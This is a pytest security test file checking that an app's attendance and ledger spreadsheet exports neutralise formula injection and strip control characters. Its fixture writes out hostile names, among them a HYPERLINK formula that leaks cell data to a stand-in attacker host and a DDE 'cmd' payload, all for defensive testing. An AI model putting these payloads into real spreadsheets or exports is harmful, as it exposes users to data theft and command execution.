"""Security, exports (issue 10, finding 4): hostile names never become formulas, and a
control character never makes an export fail. Every spreadsheet the app writes is tried."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from core.spreadsheet import csv_cell, strip_control

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+1+2", "-3+4", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]
CONTROL = "坏\x01名\x1f字\x0b"


@pytest.fixture
def hostile(scene, db_session):
    """The scene's members, units and sites renamed as an attacker would name them."""
    for member, name in zip(scene.members, HOSTILE, strict=False):
        member.name = name
    scene.outsider.name = CONTROL
    scene.members[3].name = CONTROL + "=1"
    scene.unit.name = "=cmd|' /C calc'!A0"
    scene.site_a.name = "@site"
    db_session.commit()
    return scene


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))


def _check_xlsx(data: bytes) -> str:
    assert data[:2] == b"PK"
    xml = _sheet_xml(data)
    assert "<f>" not in xml, "a name became a formula"
    assert "<f " not in xml
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", xml)
    return xml


def test_attendance_xlsx_and_csv_with_hostile_names(client, hostile):
    headers = hostile.headers("organizer")
    base = f"/api/v1/occurrences/{hostile.occurrence.id}/attendance"
    xlsx = client.get(base + ".xlsx", headers=headers)
    assert xlsx.status_code == 200
    xml = _check_xlsx(xlsx.data)
    assert "HYPERLINK" in xml  # written, as text
    assert "坏名字=1" in xml  # control characters removed, the rest kept
    response = client.get(base + ".csv", headers=headers)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[0] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")" in names
    assert "'+1+2" in names
    assert "坏名字=1" in names
    assert all(row[2] == "'=cmd|' /C calc'!A0" for row in rows[1:])


def test_ledger_xlsx_with_hostile_names(client, hostile):
    r = client.post("/login", data={"username": "admin", "password": "password123"})
    assert r.status_code == 302
    response = client.get("/attendance/ledger?format=xlsx")
    assert response.status_code == 200
    xml = _check_xlsx(response.data)
    assert "HYPERLINK" in xml
    assert "坏名字" in xml


def test_cell_rules():
    assert csv_cell("=1") == "'=1"
    assert csv_cell("-1") == "'-1"
    assert csv_cell("a=1") == "a=1"
    assert csv_cell(-1) == -1  # numbers are data, not text
    assert csv_cell(None) is None
    assert strip_control("a\x00b\tc\nd") == "ab\tc\nd"
